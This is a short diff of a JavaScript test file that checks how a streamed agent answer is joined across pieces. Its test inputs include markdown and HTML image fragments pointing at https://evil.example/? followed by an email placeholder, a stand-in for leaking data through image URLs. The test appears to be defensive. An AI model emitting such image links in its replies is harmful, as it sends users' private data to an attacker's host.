@@ -449,8 +449,8 @@ describe('the answer of a New Agent', () => {
   it('is one more piece to clients that join: what the pieces have begun is not ended by it', () => {
     for (const begun of ['![x](https://evil.example/?', '<img src="https://evil.example/?'])
       for (const whole of ['EMAIL_1)">', '{"a":"EMAIL_1)"}', '["\\"EMAIL_1"]']) {
-        const out = through([piece(begun), message(whole), message(whole)]).join('')
-        assert.equal(joined(out, 'message'), whole + whole)
+        const out = through([piece(begun), message(whole)]).join('')
+        assert.equal(joined(out, 'message'), whole)
       }
     const json = through([piece('Hello'), message('{"a":"EMAIL_1"}')]).join('')
     assert.equal(joined(json, 'message'), `{"a":"${VALUE}"}`)
